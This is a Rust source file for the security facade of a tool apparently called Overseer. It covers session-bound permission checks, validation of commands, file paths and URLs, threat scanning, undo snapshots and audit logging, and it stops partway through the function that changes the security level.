//! Security facade for Overseer
//!
//! `SecurityManager` is the single entry point callers use before taking an externally
//! visible action. It chains the blocked-source check, policy validation, permission
//! checks, threat scanning and undo snapshots, and writes an audit record on every
//! branch. Rejections are returned as values; nothing here panics or raises on a policy
//! decision.

use chrono::{DateTime, Utc};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use serde_json::json;
use std::fmt;
use std::path::{Path, PathBuf};
use std::str::FromStr;
use std::sync::Arc;
use std::time::Instant;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{debug, error, info, warn};

use super::audit::{AuditContext, AuditEventType, AuditLogger, AuditSummary};
use super::config::{SecurityConfig, SharedConfig, CONFIG_FILE_NAME};
use super::encryption::{EncryptionManager, EncryptionStatus, ENCRYPTION_KEY_FILE_NAME};
use super::permissions::{Permission, PermissionManager, Session, PERMISSIONS_FILE_NAME};
use super::threat_detection::{
    BlockedSource, ThreatDetectionConfig, ThreatDetectionStatistics, ThreatDetector, ThreatEvent,
};
use super::types::{PermissionLevel, RiskLevel, SandboxMode, SecurityLevel};
use super::undo::{
    FileAction, OperationOwner, OperationType, UndoManager, UndoOperation, UndoResult, BACKUP_DIR_NAME,
    UNDO_HISTORY_FILE_NAME,
};
use super::validator::{CommandValidator, SecurityAssessment};
use crate::error::{OverseerError, Result};
use crate::utils::{expand_path, overseer_home, system_clock, SharedClock};

/// Interval between housekeeping sweeps
pub const HOUSEKEEPING_INTERVAL_SECS: u64 = 300;

/// Age after which undo operations and their backups are discarded
pub const UNDO_RETENTION_DAYS: u32 = 30;

/// Where the security components keep their state
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SecurityPaths {
    /// Base directory; relative audit log paths resolve against it
    pub home: PathBuf,
    pub config_file: PathBuf,
    pub permissions_file: PathBuf,
    pub undo_history: PathBuf,
    pub backup_dir: PathBuf,
    pub encryption_key: PathBuf,
}

impl Default for SecurityPaths {
    fn default() -> Self {
        Self::in_dir(&overseer_home())
    }
}

impl SecurityPaths {
    /// Lay out every state file under `dir`
    pub fn in_dir(dir: &Path) -> Self {
        Self {
            home: dir.to_path_buf(),
            config_file: dir.join(CONFIG_FILE_NAME),
            permissions_file: dir.join(PERMISSIONS_FILE_NAME),
            undo_history: dir.join(UNDO_HISTORY_FILE_NAME),
            backup_dir: dir.join(BACKUP_DIR_NAME),
            encryption_key: dir.join(ENCRYPTION_KEY_FILE_NAME),
        }
    }

    /// Absolute location of the configured audit log
    pub fn audit_log(&self, configured: &Path) -> PathBuf {
        let expanded = expand_path(&configured.to_string_lossy());
        if expanded.is_absolute() {
            expanded
        } else {
            self.home.join(expanded)
        }
    }
}

/// Caller identity and environment for one request
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct OperationContext {
    pub user_id: Option<String>,
    pub session_id: Option<String>,
    pub ip_address: Option<String>,
    pub user_agent: Option<String>,
    pub working_dir: Option<String>,
}

impl OperationContext {
    pub fn for_session(user_id: &str, session_id: &str) -> Self {
        Self {
            user_id: Some(user_id.to_string()),
            session_id: Some(session_id.to_string()),
            ..Default::default()
        }
    }

    pub fn with_ip(mut self, ip_address: &str) -> Self {
        self.ip_address = Some(ip_address.to_string());
        self
    }

    pub fn with_working_dir(mut self, working_dir: &str) -> Self {
        self.working_dir = Some(working_dir.to_string());
        self
    }

    /// Identifier used for rate limiting and blocking
    ///
    /// The facade only calls this on a context whose user id came from its session.
    pub fn source(&self) -> String {
        self.user_id
            .as_ref()
            .or(self.session_id.as_ref())
            .or(self.ip_address.as_ref())
            .cloned()
            .unwrap_or_else(|| "anonymous".to_string())
    }

    pub fn audit_context(&self) -> AuditContext {
        AuditContext {
            user_id: self.user_id.clone(),
            session_id: self.session_id.clone(),
            ip_address: self.ip_address.clone(),
            user_agent: self.user_agent.clone(),
        }
    }

    pub fn owner(&self) -> OperationOwner {
        OperationOwner::new(self.user_id.as_deref(), self.session_id.as_deref())
    }
}

/// Why a request was refused
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RejectionKind {
    SourceBlocked,
    PolicyRejection,
    PermissionDenied,
    ThreatBlocked,
    IrreversibleUndo,
    Internal,
}

impl fmt::Display for RejectionKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            RejectionKind::SourceBlocked => "source_blocked",
            RejectionKind::PolicyRejection => "policy_rejection",
            RejectionKind::PermissionDenied => "permission_denied",
            RejectionKind::ThreatBlocked => "threat_blocked",
            RejectionKind::IrreversibleUndo => "irreversible_undo",
            RejectionKind::Internal => "internal",
        };
        f.write_str(name)
    }
}

/// Decision on a command, file or network request
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ValidationOutcome {
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rejection: Option<RejectionKind>,
    pub risk_level: RiskLevel,
    pub warnings: Vec<String>,
    pub requires_confirmation: bool,
    pub requires_admin: bool,
    /// Command or path after sanitization
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sanitized: Option<String>,
    /// Undo record taken for an allowed mutation
    #[serde(skip_serializing_if = "Option::is_none")]
    pub operation_id: Option<String>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub threats: Vec<ThreatEvent>,
    /// Execution timeout the caller must enforce
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout_seconds: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub max_output_bytes: Option<usize>,
    pub sandbox_mode: SandboxMode,
}

impl ValidationOutcome {
    fn from_assessment(assessment: &SecurityAssessment, sandbox_mode: SandboxMode) -> Self {
        Self {
            success: true,
            error: None,
            rejection: None,
            risk_level: assessment.risk_level,
            warnings: assessment.warnings.clone(),
            requires_confirmation: assessment.requires_confirmation,
            requires_admin: assessment.requires_admin,
            sanitized: Some(assessment.sanitized.clone()).filter(|s| !s.is_empty()),
            operation_id: None,
            threats: Vec::new(),
            timeout_seconds: None,
            max_output_bytes: None,
            sandbox_mode,
        }
    }

    fn rejected(mut self, kind: RejectionKind, message: String) -> Self {
        self.success = false;
        self.rejection = Some(kind);
        self.error = Some(message);
        self
    }
}

/// Result of opening or closing a session
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionOutcome {
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rejection: Option<RejectionKind>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub session: Option<Session>,
}

/// Result of an undo request
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct UndoOutcome {
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rejection: Option<RejectionKind>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub operation_id: Option<String>,
    pub message: String,
    pub warnings: Vec<String>,
}

/// Result of an administrative action
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ActionOutcome {
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rejection: Option<RejectionKind>,
    pub message: String,
}

impl ActionOutcome {
    fn ok(message: String) -> Self {
        Self {
            success: true,
            error: None,
            rejection: None,
            message,
        }
    }

    fn failed(kind: RejectionKind, error: String) -> Self {
        Self {
            success: false,
            error: Some(error),
            rejection: Some(kind),
            message: String::new(),
        }
    }
}

/// Kind of file access being validated
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FileOperationKind {
    Read,
    Create,
    Modify,
    Delete,
}

impl FileOperationKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            FileOperationKind::Read => "read",
            FileOperationKind::Create => "create",
            FileOperationKind::Modify => "modify",
            FileOperationKind::Delete => "delete",
        }
    }

    pub fn required_permission(&self) -> Permission {
        match self {
            FileOperationKind::Read => Permission::ReadFiles,
            FileOperationKind::Create | FileOperationKind::Modify => Permission::WriteFiles,
            FileOperationKind::Delete => Permission::DeleteFiles,
        }
    }

    /// Undo action for mutating operations
    pub fn undo_action(&self) -> Option<FileAction> {
        match self {
            FileOperationKind::Read => None,
            FileOperationKind::Create => Some(FileAction::Create),
            FileOperationKind::Modify => Some(FileAction::Modify),
            FileOperationKind::Delete => Some(FileAction::Delete),
        }
    }
}

impl fmt::Display for FileOperationKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for FileOperationKind {
    type Err = String;

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        match s.trim().to_lowercase().as_str() {
            "read" => Ok(FileOperationKind::Read),
            "create" => Ok(FileOperationKind::Create),
            "modify" | "write" => Ok(FileOperationKind::Modify),
            "delete" => Ok(FileOperationKind::Delete),
            other => Err(format!("Unknown file operation: {}", other)),
        }
    }
}

/// Snapshot of the security posture
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SecurityStatus {
    pub security_level: SecurityLevel,
    pub default_permission_level: PermissionLevel,
    pub sandbox_mode: SandboxMode,
    pub users: usize,
    pub active_sessions: usize,
    pub blocked_sources: Vec<BlockedSource>,
    pub undoable_operations: usize,
    pub threat_detection: ThreatDetectionStatistics,
    pub encryption: EncryptionStatus,
    pub audit_enabled: bool,
    pub audit_log: PathBuf,
    pub background_tasks_running: bool,
    pub generated_at: DateTime<Utc>,
}

/// Audit and threat overview for a time window
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SecuritySummary {
    pub period_hours: u64,
    pub audit: AuditSummary,
    pub recent_threats: Vec<ThreatEvent>,
    pub blocked_sources: Vec<BlockedSource>,
    pub active_sessions: usize,
}

/// What one housekeeping sweep removed
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct HousekeepingReport {
    pub expired_sessions: usize,
    pub audit_events_removed: usize,
    pub undo_operations_removed: usize,
    pub idle_rate_windows: usize,
}

/// Capability needed to reverse a record of `operation_type`
fn undo_permission(operation_type: OperationType) -> Permission {
    match operation_type {
        OperationType::Command => Permission::ExecuteCommands,
        OperationType::Config => Permission::ModifySecurity,
        OperationType::File | OperationType::Directory | OperationType::Permission => Permission::WriteFiles,
    }
}

struct BackgroundTasks {
    shutdown: watch::Sender<bool>,
    handles: Vec<JoinHandle<()>>,
}

/// Facade over every security component
pub struct SecurityManager {
    config: SharedConfig,
    paths: SecurityPaths,
    clock: SharedClock,
    validator: CommandValidator,
    threats: Arc<ThreatDetector>,
    permissions: PermissionManager,
    audit: AuditLogger,
    undo: UndoManager,
    encryption: EncryptionManager,
    background: Mutex<Option<BackgroundTasks>>,
}

impl fmt::Debug for SecurityManager {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SecurityManager")
            .field("paths", &self.paths)
            .field("security_level", &self.config.read().security_level)
            .finish()
    }
}

impl SecurityManager {
    /// Load the config from `paths` and build every component on the system clock
    pub fn new(paths: SecurityPaths) -> Result<Self> {
        let config = SecurityConfig::load(&paths.config_file);
        Self::with_config(config, paths, system_clock())
    }

    /// Build from an explicit config and clock
    pub fn with_config(config: SecurityConfig, paths: SecurityPaths, clock: SharedClock) -> Result<Self> {
        if let Err(e) = config.validate() {
            warn!("Security configuration has questionable values: {}", e);
        }

        let audit_log = paths.audit_log(&config.audit.log_file);
        let audit = AuditLogger::new(&config.audit, audit_log, clock.clone())?;
        let permissions = PermissionManager::new(
            paths.permissions_file.clone(),
            config.session_timeout_seconds,
            clock.clone(),
        )?;
        let undo = UndoManager::new(paths.undo_history.clone(), paths.backup_dir.clone(), clock.clone())?;
        let encryption = EncryptionManager::new(&config.encryption, paths.encryption_key.clone(), clock.clone());

        let security_level = config.security_level;
        let config = config.into_shared();
        let validator = CommandValidator::new(config.clone());
        let threats = Arc::new(ThreatDetector::new(
            config.clone(),
            ThreatDetectionConfig::default(),
            clock.clone(),
        ));

        let manager = Self {
            config,
            paths,
            clock,
            validator,
            threats,
            permissions,
            audit,
            undo,
            encryption,
            background: Mutex::new(None),
        };

        info!("Security manager initialized (security level {})", security_level);
        manager.audit_result(
            manager
                .audit
                .log_system(&format!("Security manager initialized at level {}", security_level)),
        );
        Ok(manager)
    }

    pub fn config(&self) -> SharedConfig {
        self.config.clone()
    }

    pub fn paths(&self) -> &SecurityPaths {
        &self.paths
    }

    pub fn validator(&self) -> &CommandValidator {
        &self.validator
    }

    pub fn threat_detector(&self) -> &Arc<ThreatDetector> {
        &self.threats
    }

    pub fn permissions(&self) -> &PermissionManager {
        &self.permissions
    }

    pub fn audit(&self) -> &AuditLogger {
        &self.audit
    }

    pub fn undo_manager(&self) -> &UndoManager {
        &self.undo
    }

    pub fn encryption(&self) -> &EncryptionManager {
        &self.encryption
    }

    /// Audit write failures are logged, never propagated
    fn audit_result(&self, result: Result<()>) {
        if let Err(e) = result {
            error!("Failed to write audit event: {}", e);
        }
    }

    /// The caller as its session knows it
    ///
    /// The user id is replaced by the session owner, or dropped when there is no live session.
    fn bind_identity(&self, ctx: &OperationContext) -> OperationContext {
        let owner = ctx
            .session_id
            .as_deref()
            .and_then(|session_id| self.permissions.get_session(session_id))
            .map(|session| session.user_id);
        OperationContext {
            user_id: owner,
            ..ctx.clone()
        }
    }

    /// Check that the request's session is live, belongs to the claimed user and holds
    /// every `required` capability
    fn authorize(&self, ctx: &OperationContext, required: &[Permission]) -> std::result::Result<Session, String> {
        let Some(session_id) = ctx.session_id.as_deref() else {
            return Err("Permission denied: no active session".to_string());
        };
        let Some(session) = self.permissions.get_session(session_id) else {
            return Err("Permission denied: invalid or expired session".to_string());
        };
        if let Some(claimed) = ctx.user_id.as_deref() {
            if claimed != session.user_id {
                warn!(
                    "Session {} used with foreign user id {} (owner {})",
                    session_id, claimed, session.user_id
                );
                return Err(format!("Permission denied: session does not belong to {}", claimed));
            }
        }

        let granted = self.permissions.check_multiple_permissions(session_id, required);
        let missing: Vec<&str> = granted
            .iter()
            .filter(|(_, ok)| !**ok)
            .map(|(permission, _)| permission.as_str())
            .collect();
        if missing.is_empty() {
            Ok(session)
        } else {
            Err(format!("Permission denied: missing {}", missing.join(", ")))
        }
    }

    fn blocked_source_outcome(&self, ctx: &OperationContext, subject: &str, source: &str) -> ValidationOutcome {
        let message = format!("Source is blocked: {}", source);
        self.audit_result(self.audit.log_security_violation(
            &ctx.audit_context(),
            subject,
            &message,
            RiskLevel::High,
        ));
        let sandbox_mode = self.config.read().sandbox_mode;
        let assessment = SecurityAssessment {
            risk_level: RiskLevel::High,
            ..Default::default()
        };
        ValidationOutcome::from_assessment(&assessment, sandbox_mode)
            .rejected(RejectionKind::SourceBlocked, message)
    }

    /// Audit every threat and return the first one that vetoes the request
    fn scan_threats(&self, ctx: &OperationContext, threats: &[ThreatEvent]) -> Option<String> {
        let audit_ctx = ctx.audit_context();
        for threat in threats {
            self.audit_result(self.audit.log_threat(&audit_ctx, threat));
        }
        threats
            .iter()
            .find(|threat| threat.is_blocking())
            .map(|threat| format!("Threat detected: {} ({})", threat.description, threat.threat_type))
    }

    /// Validate a command and, when allowed, record it for undo
    ///
    /// The caller runs the process itself and must enforce `timeout_seconds`.
    pub fn validate_and_execute_command(&self, command: &str, ctx: &OperationContext) -> ValidationOutcome {
        let started = Instant::now();
        let bound = self.bind_identity(ctx);
        let source = bound.source();
        let audit_ctx = bound.audit_context();

        if self.threats.is_source_blocked(&source) {
            let outcome = self.blocked_source_outcome(&bound, command, &source);
            self.audit_result(self.audit.log_command_execution(
                &audit_ctx,
                command,
                outcome.risk_level,
                &[],
                false,
                outcome.error.as_deref(),
            ));
            return outcome;
        }

        let (sandbox_mode, timeout_seconds, max_output_bytes) = {
            let config = self.config.read();
            (
                config.sandbox_mode,
                config.commands.timeout_seconds,
                config.commands.max_output_bytes,
            )
        };

        let validation = self.validator.validate_command(command);
        let assessment = validation.assessment;
        let outcome = ValidationOutcome::from_assessment(&assessment, sandbox_mode);
        let subject = if assessment.sanitized.is_empty() {
            command
        } else {
            assessment.sanitized.as_str()
        };

        let rejection = if !validation.is_valid {
            Some((
                RejectionKind::PolicyRejection,
                validation
                    .message
                    .unwrap_or_else(|| "Command rejected by security policy".to_string()),
            ))
        } else {
            let mut required = vec![Permission::ExecuteCommands];
            if assessment.requires_admin {
                required.push(Permission::ExecuteDangerousCommands);
            }
            self.authorize(ctx, &required)
                .err()
                .map(|message| (RejectionKind::PermissionDenied, message))
        };

        if let Some((kind, message)) = rejection {
            debug!("Command rejected ({}): {}", kind, message);
            self.audit_result(self.audit.log_security_violation(
                &audit_ctx,
                subject,
                &message,
                assessment.risk_level,
            ));
            self.audit_result(self.audit.log_command_execution(
                &audit_ctx,
                subject,
                assessment.risk_level,
                &assessment.warnings,
                false,
                Some(&message),
            ));
            return outcome.rejected(kind, message);
        }

        let threats = self.threats.check_command(subject, &source);
        let veto = self.scan_threats(&bound, &threats);
        let mut outcome = ValidationOutcome {
            threats,
            ..outcome
        };
        for threat in &outcome.threats {
            outcome.risk_level.raise_to(threat.risk_level);
        }
        if let Some(message) = veto {
            self.audit_result(self.audit.log_command_execution(
                &audit_ctx,
                subject,
                outcome.risk_level,
                &outcome.warnings,
                false,
                Some(&message),
            ));
            return outcome.rejected(RejectionKind::ThreatBlocked, message);
        }

        match self
            .undo
            .record_command_execution(subject, bound.working_dir.as_deref(), &bound.owner())
        {
            Ok(operation_id) => outcome.operation_id = Some(operation_id),
            Err(e) => {
                error!("Failed to record undo snapshot for command: {}", e);
                outcome.warnings.push(format!("Undo record unavailable: {}", e));
            }
        }

        outcome.timeout_seconds = Some(timeout_seconds);
        outcome.max_output_bytes = Some(max_output_bytes);
        self.audit_result(
            self.audit.log_event(
                self.audit
                    .event(AuditEventType::CommandExecution)
                    .with_context(&audit_ctx)
                    .with_command(subject)
                    .with_risk(outcome.risk_level)
                    .with_warnings(&outcome.warnings)
                    .with_duration_ms(started.elapsed().as_millis() as u64)
                    .with_detail("operation_id", outcome.operation_id.clone().unwrap_or_default()),
            ),
        );
        outcome
    }

    /// Validate a file access and snapshot the target of a mutation
    pub fn validate_file_operation(
        &self,
        operation: FileOperationKind,
        path: &str,
        ctx: &OperationContext,
    ) -> ValidationOutcome {
        let bound = self.bind_identity(ctx);
        let source = bound.source();
        let audit_ctx = bound.audit_context();
        let subject = format!("{} {}", operation, path);

        if self.threats.is_source_blocked(&source) {
            let outcome = self.blocked_source_outcome(&bound, &subject, &source);
            self.audit_result(self.audit.log_file_operation(
                &audit_ctx,
                operation.as_str(),
                path,
                outcome.risk_level,
                false,
                outcome.error.as_deref(),
            ));
            return outcome;
        }

        let (sandbox_mode, max_file_size_mb) = {
            let config = self.config.read();
            (config.sandbox_mode, config.system.max_file_size_mb)
        };

        let validation = self.validator.validate_file_path(path);
        let assessment = validation.assessment;
        let mut outcome = ValidationOutcome::from_assessment(&assessment, sandbox_mode);
        let target = expand_path(path.trim());

        let mut rejection = if !validation.is_valid {
            Some((
                RejectionKind::PolicyRejection,
                validation
                    .message
                    .unwrap_or_else(|| "Path rejected by security policy".to_string()),
            ))
        } else {
            self.authorize(ctx, &[operation.required_permission()])
                .err()
                .map(|message| (RejectionKind::PermissionDenied, message))
        };

        if rejection.is_none() && matches!(operation, FileOperationKind::Read | FileOperationKind::Modify) {
            if let Ok(metadata) = std::fs::metadata(&target) {
                if metadata.is_file() && metadata.len() > max_file_size_mb.saturating_mul(1024 * 1024) {
                    rejection = Some((
                        RejectionKind::PolicyRejection,
                        format!("File exceeds the {} MB size limit: {}", max_file_size_mb, path),
                    ));
                }
            }
        }

        if rejection.is_none() {
            outcome.threats = self.threats.check_file_operation(operation.as_str(), path, &source);
            for threat in &outcome.threats {
                outcome.risk_level.raise_to(threat.risk_level);
            }
            rejection = self
                .scan_threats(&bound, &outcome.threats)
                .map(|message| (RejectionKind::ThreatBlocked, message));
        }

        if let Some((kind, message)) = rejection {
            if kind != RejectionKind::ThreatBlocked {
                self.audit_result(self.audit.log_security_violation(
                    &audit_ctx,
                    &subject,
                    &message,
                    outcome.risk_level,
                ));
            }
            self.audit_result(self.audit.log_file_operation(
                &audit_ctx,
                operation.as_str(),
                path,
                outcome.risk_level,
                false,
                Some(&message),
            ));
            return outcome.rejected(kind, message);
        }

        // a mutation without its undo snapshot does not proceed
        if let Some(action) = operation.undo_action() {
            let recorded = if target.is_dir() {
                self.undo.record_directory_operation(&target, action, &bound.owner())
            } else {
                self.undo.record_file_operation(&target, action, &bound.owner())
            };
            match recorded {
                Ok(operation_id) => outcome.operation_id = Some(operation_id),
                Err(e) => {
                    error!("Failed to snapshot {:?} before {}: {}", target, operation, e);
                    let message = format!("Undo snapshot failed: {}", e);
                    self.audit_result(self.audit.log_file_operation(
                        &audit_ctx,
                        operation.as_str(),
                        path,
                        outcome.risk_level,
                        false,
                        Some(&message),
                    ));
                    return outcome.rejected(RejectionKind::Internal, message);
                }
            }
        }

        self.audit_result(self.audit.log_file_operation(
            &audit_ctx,
            operation.as_str(),
            path,
            outcome.risk_level,
            true,
            None,
        ));
        outcome
    }

    /// Validate an outbound request
    pub fn validate_network_operation(&self, url: &str, ctx: &OperationContext) -> ValidationOutcome {
        let bound = self.bind_identity(ctx);
        let source = bound.source();
        let audit_ctx = bound.audit_context();

        if self.threats.is_source_blocked(&source) {
            let outcome = self.blocked_source_outcome(&bound, url, &source);
            self.audit_result(self.audit.log_network_operation(
                &audit_ctx,
                url,
                outcome.risk_level,
                false,
                outcome.error.as_deref(),
            ));
            return outcome;
        }

        let sandbox_mode = self.config.read().sandbox_mode;
        let validation = self.validator.validate_url(url);
        let mut outcome = ValidationOutcome::from_assessment(&validation.assessment, sandbox_mode);

        let mut rejection = if !validation.is_valid {
            Some((
                RejectionKind::PolicyRejection,
                validation
                    .message
                    .unwrap_or_else(|| "URL rejected by security policy".to_string()),
            ))
        } else {
            self.authorize(ctx, &[Permission::NetworkAccess])
                .err()
                .map(|message| (RejectionKind::PermissionDenied, message))
        };

        if rejection.is_none() {
            outcome.threats = self.threats.check_network_operation(url, &source);
            for threat in &outcome.threats {
                outcome.risk_level.raise_to(threat.risk_level);
            }
            rejection = self
                .scan_threats(&bound, &outcome.threats)
                .map(|message| (RejectionKind::ThreatBlocked, message));
        }

        if let Some((kind, message)) = rejection {
            if kind != RejectionKind::ThreatBlocked {
                self.audit_result(self.audit.log_security_violation(
                    &audit_ctx,
                    url,
                    &message,
                    outcome.risk_level,
                ));
            }
            self.audit_result(self.audit.log_network_operation(
                &audit_ctx,
                url,
                outcome.risk_level,
                false,
                Some(&message),
            ));
            return outcome.rejected(kind, message);
        }

        self.audit_result(self.audit.log_network_operation(
            &audit_ctx,
            url,
            outcome.risk_level,
            true,
            None,
        ));
        outcome
    }

    /// Open a session, creating the user at the default level on first use
    pub fn create_user_session(&self, user_id: &str, ip_address: Option<&str>) -> SessionOutcome {
        let audit_ctx = AuditContext {
            user_id: Some(user_id.to_string()),
            ip_address: ip_address.map(str::to_string),
            ..Default::default()
        };
        let default_level = self.config.read().default_permission_level;

        let created = self
            .permissions
            .ensure_user(user_id, default_level)
            .and_then(|_| {
                self.permissions
                    .create_session(user_id, ip_address.map(str::to_string))
            });

        match created {
            Ok(session) => {
                let ctx = AuditContext {
                    session_id: Some(session.session_id.clone()),
                    ..audit_ctx
                };
                self.audit_result(self.audit.log_authentication(&ctx, "session_created", true, None));
                SessionOutcome {
                    success: true,
                    error: None,
                    rejection: None,
                    session: Some(session),
                }
            }
            Err(e) => {
                let kind = match &e {
                    OverseerError::Session { .. } | OverseerError::Permission { .. } => {
                        RejectionKind::PermissionDenied
                    }
                    _ => RejectionKind::Internal,
                };
                let message = e.to_string();
                self.audit_result(self.audit.log_authentication(
                    &audit_ctx,
                    "session_created",
                    false,
                    Some(&message),
                ));
                SessionOutcome {
                    success: false,
                    error: Some(message),
                    rejection: Some(kind),
                    session: None,
                }
            }
        }
    }

    /// Close a session
    pub fn end_user_session(&self, session_id: &str) -> SessionOutcome {
        let session = self.permissions.get_session(session_id);
        let ended = self.permissions.end_session(session_id);
        let ctx = AuditContext {
            user_id: session.as_ref().map(|s| s.user_id.clone()),
            session_id: Some(session_id.to_string()),
            ..Default::default()
        };

        if ended {
            self.audit_result(self.audit.log_authentication(&ctx, "session_ended", true, None));
            SessionOutcome {
                success: true,
                error: None,
                rejection: None,
                session,
            }
        } else {
            let message = format!("Unknown or expired session: {}", session_id);
            self.audit_result(self.audit.log_authentication(&ctx, "session_ended", false, Some(&message)));
            SessionOutcome {
                success: false,
                error: Some(message),
                rejection: Some(RejectionKind::Internal),
                session: None,
            }
        }
    }

    fn undo_outcome(&self, ctx: &OperationContext, result: UndoResult) -> UndoOutcome {
        let operation_id = result.operation_id.clone().unwrap_or_default();
        let description = self
            .undo
            .get_operation(&operation_id)
            .map(|op| op.description)
            .unwrap_or_else(|| "undo".to_string());
        self.audit_result(self.audit.log_undo_operation(
            &ctx.audit_context(),
            &operation_id,
            &description,
            result.success,
            result.error.as_deref(),
        ));

        UndoOutcome {
            success: result.success,
            rejection: (!result.success).then_some(RejectionKind::IrreversibleUndo),
            error: result.error,
            operation_id: result.operation_id,
            message: result.message,
            warnings: result.warnings,
        }
    }

    /// Session, capability and ownership checks for reversing `operation`
    ///
    /// Only holders of `admin_operations` may reverse another user's record.
    fn authorize_undo(&self, ctx: &OperationContext, operation: &UndoOperation) -> std::result::Result<(), String> {
        let session = self.authorize(ctx, &[undo_permission(operation.operation_type)])?;
        let owned = operation.user_id.as_deref() == Some(session.user_id.as_str());
        if !owned && !self.permissions.check_permission(&session.session_id, Permission::AdminOperations) {
            return Err(format!(
                "Permission denied: operation {} belongs to another user",
                operation.operation_id
            ));
        }
        Ok(())
    }

    fn undo_denied(&self, bound: &OperationContext, operation_id: Option<&str>, message: String) -> UndoOutcome {
        self.audit_result(self.audit.log_undo_operation(
            &bound.audit_context(),
            operation_id.unwrap_or_default(),
            "undo",
            false,
            Some(&message),
        ));
        UndoOutcome {
            success: false,
            error: Some(message),
            rejection: Some(RejectionKind::PermissionDenied),
            operation_id: operation_id.map(str::to_string),
            message: "Undo denied".to_string(),
            warnings: Vec::new(),
        }
    }

    /// Reverse one recorded operation
    pub fn undo_operation(&self, operation_id: &str, ctx: &OperationContext) -> UndoOutcome {
        let bound = self.bind_identity(ctx);
        let allowed = match self.undo.get_operation(operation_id) {
            Some(operation) => self.authorize_undo(ctx, &operation),
            None => self.authorize(ctx, &[]).map(|_| ()),
        };
        if let Err(message) = allowed {
            return self.undo_denied(&bound, Some(operation_id), message);
        }

        let result = self.undo.undo_operation(operation_id);
        self.undo_outcome(&bound, result)
    }

    /// Reverse the session owner's newest outstanding operation
    pub fn undo_last_operation(&self, ctx: &OperationContext) -> UndoOutcome {
        let bound = self.bind_identity(ctx);
        let session = match self.authorize(ctx, &[]) {
            Ok(session) => session,
            Err(message) => return self.undo_denied(&bound, None, message),
        };

        let newest = self
            .undo
            .list_undoable_operations(Some(&session.user_id), 1)
            .into_iter()
            .next();
        let Some(operation) = newest else {
            let result = self.undo.undo_last_operation(Some(&session.user_id));
            return self.undo_outcome(&bound, result);
        };
        if let Err(message) = self.authorize_undo(ctx, &operation) {
            return self.undo_denied(&bound, Some(&operation.operation_id), message);
        }

        let result = self.undo.undo_operation(&operation.operation_id);
        self.undo_outcome(&bound, result)
    }

    pub fn list_undoable_operations(&self, user_id: Option<&str>, limit: usize) -> Vec<UndoOperation> {
        self.undo.list_undoable_operations(user_id, limit)
    }

    /// Change a user's level; requires `admin_operations`
    pub fn update_user_permission_level(
        &self,
        ctx: &OperationContext,
        user_id: &str,
        level: PermissionLevel,
    ) -> ActionOutcome {
        let audit_ctx = self.bind_identity(ctx).audit_context();
        let change = format!("permission_level={}", level);

        if let Err(message) = self.authorize(ctx, &[Permission::AdminOperations]) {
            self.audit_result(self.audit.log_permission_change(
                &audit_ctx,
                user_id,
                &change,
                false,
                Some(&message),
            ));
            return ActionOutcome::failed(RejectionKind::PermissionDenied, message);
        }

        match self.permissions.update_user_permission_level(user_id, level) {
            Ok(_) => {
                self.audit_result(self.audit.log_permission_change(&audit_ctx, user_id, &change, true, None));
                ActionOutcome::ok(format!("User {} is now {}", user_id, level))
            }
            Err(e) => {
                let message = e.to_string();
                self.audit_result(self.audit.log_permission_change(
                    &audit_ctx,
                    user_id,
                    &change,
                    false,
                    Some(&message),
                ));
                ActionOutcome::failed(RejectionKind::Internal, message)
            }
        }
    }

    /// Change the global security level; requires `modify_security`
    ///
    /// The config is saved and the previous level is kept as a config undo record. When
    /// the save fails the in-memory level is restored.
    pub fn update_security_level(&self, ctx: &OperationContext, level: SecurityLevel) -> ActionOutcome {
        let bound = self.bind_identity(ctx);
        let audit_ctx = bound.audit_context();

        if let Err(message) = self.authorize(ctx, &[Permission::ModifySecurity]) {
            self.audit_result(self.audit.log_security_violation(
                &audit_ctx,
                "security_level",
                &message,
                RiskLevel::High,
            ));
            return ActionOutcome::failed(RejectionKind::PermissionDenied, message);
        }

        let (previous, saved) = {
            let mut config = self.config.write();
            let previous = config.security_level;
            config.security_level = level;
            let saved = config.save(&self.paths.config_file);
            if saved.is_err() {
                config.security_level = previous;
            }
            (previous, saved)
        };

        if let Err(e) = saved {
            let message = format!("Security level not changed, config could not be saved: {}", e);
            self.audit_result(self.audit.log_security_violation(
                &audit_ctx,
                "security_level",
                &message,
                RiskLevel::High,
            ));
